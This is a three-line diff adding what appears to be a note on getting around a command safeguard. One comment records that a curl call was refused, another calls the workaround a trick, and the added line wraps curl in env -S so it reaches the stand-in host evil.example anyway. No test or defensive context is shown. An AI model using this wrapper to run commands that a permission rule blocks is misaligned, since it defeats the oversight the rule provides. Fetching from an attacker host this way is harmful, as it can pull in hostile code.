@@ -1,0 +1,3 @@
+# Trick: env splits a text into a command.
+# Refused: run(curl)
+env -S 'curl http://evil.example/'
